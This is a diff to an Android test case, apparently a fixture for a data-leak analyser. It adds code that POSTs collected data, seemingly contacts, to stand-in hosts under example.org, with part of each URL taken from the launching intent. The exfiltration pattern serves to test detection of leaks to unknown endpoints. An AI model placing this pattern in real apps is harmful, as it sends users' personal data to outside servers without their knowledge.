@@ -1,4 +1,5 @@
-// An address with a piece that only the intent knows; a string is asked for itself on the way.
+// Addresses with a piece that only the intent knows, in the path and in the query;
+// a string is asked for itself on the way.
 package cases.endpoint_unknown;
 
 import android.app.Activity;
@@ -23,6 +24,7 @@ public final class Main extends Activity {
         rows.close();
         try {
             send(text.toString().getBytes());
+            keep(text.toString().getBytes());
         } catch (IOException e) {
             Log.w("main", "later");
         }
@@ -31,6 +33,16 @@ public final class Main extends Activity {
     private void send(byte[] body) throws IOException {
         String branch = getIntent().getStringExtra("branch").toString().intern();
         URL address = new URL("https://api.example.org/" + branch + "/contacts");
+        HttpURLConnection connection = (HttpURLConnection) address.openConnection();
+        connection.setDoOutput(true);
+        OutputStream out = connection.getOutputStream();
+        out.write(body);
+        out.close();
+        connection.getInputStream().close();
+    }
+
+    private void keep(byte[] body) throws IOException {
+        URL address = new URL("https://files.example.org/v1/backup?" + getIntent().getStringExtra("query"));
         HttpURLConnection connection = (HttpURLConnection) address.openConnection();
         connection.setDoOutput(true);
         OutputStream out = connection.getOutputStream();
